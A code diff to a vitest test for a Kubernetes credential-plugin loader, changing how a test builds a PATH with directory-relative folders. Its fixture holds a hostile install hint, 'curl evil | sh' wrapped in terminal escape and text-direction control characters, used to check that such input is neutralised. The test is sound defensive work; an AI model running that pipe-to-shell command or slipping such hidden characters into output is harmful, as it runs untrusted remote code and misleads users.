@@ -1,5 +1,5 @@
 import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs'
-import { join } from 'node:path'
+import { join, relative } from 'node:path'
 import { describe, expect, test, vi } from 'vitest'
 import { pluginCredential, type PluginPlace } from '../../../../main/kube/auth/plugin'
 import { pluginCommand, type PluginCommand } from '../../../../main/kube/auth/plugin-command'
@@ -56,8 +56,9 @@ describe('nothing runs that was not allowed', () => {
   })
 
   test('folders of PATH that depend on where we stand are passed over', async () => {
-    const { plugin } = pluginScript(scratch(), printToken('t'))
-    expect(await failureOf(pluginCommand({ ...plugin, installHint: 'Get it:\n\u001b[31mcurl evil | sh\u202e' }, file, { PATH: '.:bin:' }))).toMatchObject({
+    const folder = scratch()
+    const { plugin } = pluginScript(folder, printToken('t'))
+    expect(await failureOf(pluginCommand({ ...plugin, installHint: 'Get it:\n\u001b[31mcurl evil | sh\u202e' }, file, { PATH: `.:${relative('.', folder)}:` }))).toMatchObject({
       code: 'notFound', remedy: 'The kubeconfig says: Get it: [31mcurl evil | sh',
     })
   })
